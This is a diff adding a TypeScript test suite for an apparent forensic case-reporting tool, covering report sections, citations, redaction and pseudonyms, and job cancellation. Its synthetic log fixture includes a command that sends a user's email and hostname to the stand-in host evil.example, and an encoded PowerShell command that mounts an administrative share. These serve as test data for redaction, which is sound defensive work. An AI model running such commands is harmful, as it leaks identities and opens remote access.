@@ -1,0 +1,229 @@
+import { copyFileSync, existsSync, mkdirSync, readdirSync, readFileSync } from 'node:fs'
+import { basename, join } from 'node:path'
+import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import { createClient } from '../../../core/contract/client.ts'
+import type { InputOf } from '../../../core/contract/types.ts'
+import { createEngine } from '../../../core/engine.ts'
+import { sections } from '../../../core/report/registry.ts'
+import { templates } from '../../../core/report/templates/registry.ts'
+import { Workbench, windowsLines } from '../../support/workbench.ts'
+import { textOf } from './to-outline.ts'
+
+const generatedAt = '2026-03-10T12:00:00.000Z'
+const EVENTS = 30
+let bench: Workbench
+beforeEach(async () => {
+  bench = await Workbench.open()
+})
+afterEach(() => bench.close())
+
+/** A log in which one person, one machine and one address stand in every place that a log has. */
+function canaryLines(): string {
+  return windowsLines(EVENTS, 'WS-CANARY7.corp.example')
+    .split('\n')
+    .map((line, index) => {
+      const event = JSON.parse(line) as Record<string, unknown>
+      return JSON.stringify({
+        ...event,
+        User: 'CORP\\zq.canary',
+        Image: 'C:\\Users\\zq.canary\\AppData\\Local\\Temp\\tool.exe',
+        CommandLine: [
+          'tool.exe /u ZQ.Canary@corp.example /h \\\\ws-canary7 /t 10.66.77.88',
+          'cmd /c start https://evil.example/?e=zq%2ecanary%40corp.example&h=WS-CANARY7',
+          `powershell -enc ${Buffer.from('net use \\\\WS-CANARY7\\c$ /user:zq.canary', 'utf16le').toString('base64')}`,
+        ][index % 3],
+        SourceIp: '10.66.77.88',
+      })
+    })
+    .join('\n')
+}
+
+const preview = async (input: InputOf<'report.preview'>) =>
+  (await bench.client.call('report.preview', { generatedAt, ...input })).html
+
+describe('a report of a real case', () => {
+  beforeEach(async () => {
+    await bench.import(bench.file('zq.canary-ws-canary7.jsonl', canaryLines()))
+    await bench.client.run('correlation.run', {})
+  })
+  const all = { options: { timeline: { rows: 'all', max: 1000 } } }
+
+  it('has the nineteen sections of the design in their order', () => {
+    const own = sections.filter(({ within, id }) => within === undefined && id !== 'contents')
+    expect(own.map(({ id }) => id)).toEqual([
+      'cover',
+      'document-control',
+      'summary',
+      'scope',
+      'evidence',
+      'custody',
+      'method',
+      'findings',
+      'narrative',
+      'timeline',
+      'mail-vector',
+      'retro-scan',
+      'affected',
+      'indicators',
+      'attack',
+      'plan',
+      'limitations',
+      'examiner',
+      'appendices',
+    ])
+  })
+
+  it('cites nothing that its appendix does not hold', async () => {
+    const html = await preview(all)
+    const targets = new Set([...html.matchAll(/ id="(E\d+(?:-\d+)?)"/g)].map(([, id]) => id))
+    const cited = [...html.matchAll(/class="cite"[^>]*>(E\d+(?::\d+)?)</g)].map(([, ref]) => ref ?? '')
+    expect(new Set(cited).size).toBeGreaterThan(EVENTS)
+    expect(cited.filter((ref) => !targets.has(ref.replace(':', '-')))).toEqual([])
+    expect(html).not.toContain('<span class="cite">')
+  })
+
+  it('says nothing of who is hidden, in no text, figure, record, edge or title', async () => {
+    const { rows } = await bench.client.call('entity.search', { text: '', limit: 100 })
+    const events = await bench.client.call('event.search', { limit: 2 })
+    await bench.client.call('work.mark', {
+      type: 'pin',
+      text: 'zq.canary was here',
+      targets: [
+        ...rows.slice(0, 5).map(({ id }) => ({ kind: 'entity' as const, id })),
+        ...events.rows.map(({ id }) => ({ kind: 'event' as const, id })),
+      ],
+    })
+    const input = {
+      ...all,
+      title: 'Case of Zq.Canary',
+      client: 'WS-CANARY7',
+      classification: 'TLP:RED zq.canary',
+      questions: 'What did `zq.canary` do on **ws-canary7**?',
+      blocks: [{ section: 'summary', place: 'after' as const, text: 'See CORP\\zq.canary at 10.66.77.88' }],
+    }
+    const redaction = { users: true, endpoints: true, addresses: 'own' as const, terms: [] }
+    const open = await preview(input)
+    expect(open.toLowerCase()).toContain('canary')
+    const hidden = await preview({ ...input, redaction })
+    // Edges of the page are written as CSS escapes; base64 may hold the name, as may hidden characters.
+    const plain = textOf(hidden.replaceAll(/url\(data:[^)]*\)/g, ''))
+      .replaceAll(/\\([0-9a-f]{6})/g, (_all, code: string) => String.fromCodePoint(Number.parseInt(code, 16)))
+      .replaceAll(/[A-Za-z0-9+/]{16,}={0,2}/g, (run) =>
+        [
+          run,
+          Buffer.from(run, 'base64').toString('utf8'),
+          Buffer.from(run, 'base64').toString('utf16le'),
+        ].join(' '),
+      )
+    for (const canary of ['canary', '66.77.88', '66[.]77']) expect(plain.toLowerCase()).not.toContain(canary)
+    expect(hidden.toLowerCase()).not.toContain('canary')
+    expect(plain).toMatch(/USER-\w{6}/)
+    expect(plain).toMatch(/HOST-\w{6}/)
+    const counts = await bench.client.call('report.redaction', { generatedAt, ...input, redaction })
+    expect(counts.rules.find(({ kind }) => kind === 'user')?.replaced).toBeGreaterThan(EVENTS)
+    expect(counts.rows.every(({ pseudonym }) => plain.includes(pseudonym))).toBe(true)
+  })
+
+  it('is the same in a copy of the case, pseudonyms too', async () => {
+    const redaction = { users: true, endpoints: true, addresses: 'all' as const, terms: ['tool'] }
+    const first = await preview({ ...all, redaction })
+    await bench.client.call('case.close', {})
+    mkdirSync(join(bench.folder, 'elsewhere'))
+    const copy = join(bench.folder, 'elsewhere', basename(bench.casePath))
+    copyFileSync(bench.casePath, copy)
+    const engine = createEngine({ files: 'paths', host: 'cli', jobs: 'inline' })
+    const client = createClient(engine)
+    await client.call('case.open', { grant: copy })
+    const second = await client.call('report.preview', { generatedAt, ...all, redaction })
+    await engine.close()
+    expect(second.html === first).toBe(true)
+  })
+
+  it('shows the first rows of a long table in the preview and writes all of them', async () => {
+    await bench.import(bench.file('more.jsonl', windowsLines(700, 'ws02.corp.example')))
+    const wanted = {
+      sections: ['timeline', 'raw-records'],
+      options: { timeline: { rows: 'all', max: 100_000 } },
+    }
+    const shown = await bench.client.call('report.preview', { generatedAt, ...wanted })
+    expect(shown.cut).toBe(true)
+    expect(shown.html.match(/<tr>/g)?.length).toBeLessThan(310)
+    const path = join(bench.folder, 'r.html')
+    await bench.client.run('report.write', { generatedAt, ...wanted, grant: path, format: 'html' })
+    expect(readFileSync(path, 'utf8').match(/<tr>/g)?.length).toBeGreaterThan(700 + EVENTS)
+    expect(readdirSync(bench.folder).filter((name) => name.startsWith('.'))).toEqual([])
+  })
+
+  it('leaves nothing behind when it is cancelled', async () => {
+    const path = join(bench.folder, 'r.html')
+    const { jobId } = await bench.client.call('report.write', {
+      ...all,
+      generatedAt,
+      grant: path,
+      format: 'html',
+    })
+    await bench.client.call('job.cancel', { id: jobId })
+    const ended = await new Promise<string>((resolve) => {
+      const stop = bench.client.onEvent((event) => {
+        if (event.type !== 'job.ended' || event.jobId !== jobId) return
+        stop()
+        resolve(event.status)
+      })
+    })
+    expect(ended).toBe('cancelled')
+    expect(existsSync(path)).toBe(false)
+    expect(readdirSync(bench.folder).filter((name) => name.startsWith('.'))).toEqual([])
+  })
+
+  it('keeps its settings in the case, with one entry in the log per change and none of the words in it', async () => {
+    const settings = {
+      title: 'Heron',
+      sections: ['cover', 'summary'],
+      options: { custody: { rows: 10 } },
+      blocks: [{ section: 'summary', place: 'before' as const, text: 'Secret words' }],
+      redaction: { users: true, endpoints: false, addresses: 'none' as const, terms: ['Quill'] },
+    }
+    expect(await bench.client.call('report.settings', {})).toEqual({ settings: null })
+    expect(await bench.client.call('report.save', settings)).toEqual({ changed: true })
+    expect(await bench.client.call('report.save', settings)).toEqual({ changed: false })
+    expect(await bench.client.call('report.settings', {})).toMatchObject({ settings })
+    const { rows } = await bench.client.call('audit.list', { limit: 100 })
+    const saved = rows.filter(({ action }) => action === 'report.settings')
+    expect(saved).toHaveLength(1)
+    expect(JSON.stringify(saved)).not.toMatch(/Secret|Quill/)
+    expect((await bench.client.call('audit.verify', {})).ok).toBe(true)
+  })
+
+  it.each(templates.map(({ id }) => [id]))('is made by the template %s', async (id) => {
+    const template = (await bench.client.call('report.templates', {})).find((one) => one.id === id)
+    const html = await preview({ sections: template?.sections ?? null, options: template?.options ?? {} })
+    const printed = [...html.matchAll(/<section class="section[^"]*" id="section-([a-z-]+)"/g)].map(
+      ([, one]) => one,
+    )
+    expect(printed).toEqual(template?.sections)
+  })
+
+  it('refuses an option that no section has, and a value that it does not take', async () => {
+    await expect(preview({ options: { timeline: { rowz: 1 } } })).rejects.toMatchObject({
+      code: 'request.not_found',
+    })
+    await expect(preview({ options: { timeline: { max: 0 } } })).rejects.toMatchObject({
+      code: 'request.invalid',
+    })
+    await expect(preview({ options: { timeline: { rows: 'some' } } })).rejects.toMatchObject({
+      code: 'request.invalid',
+    })
+  })
+
+  it('leaves out the figures of pins that are not wanted', async () => {
+    const events = await bench.client.call('event.search', { limit: 1 })
+    const { ids } = await bench.client.call('work.mark', {
+      type: 'pin',
+      targets: events.rows.map(({ id }) => ({ kind: 'event' as const, id })),
+    })
+    expect(await preview({})).toContain('Pinned events')
+    expect(await preview({ withoutFigures: ids })).not.toContain('Pinned events')
+    const [figure] = await bench.client.call('report.figures', {})
+    expect(figure).toMatchObject({ id: ids[0], section: 'timeline', kind: 'event' })
+  })
+})
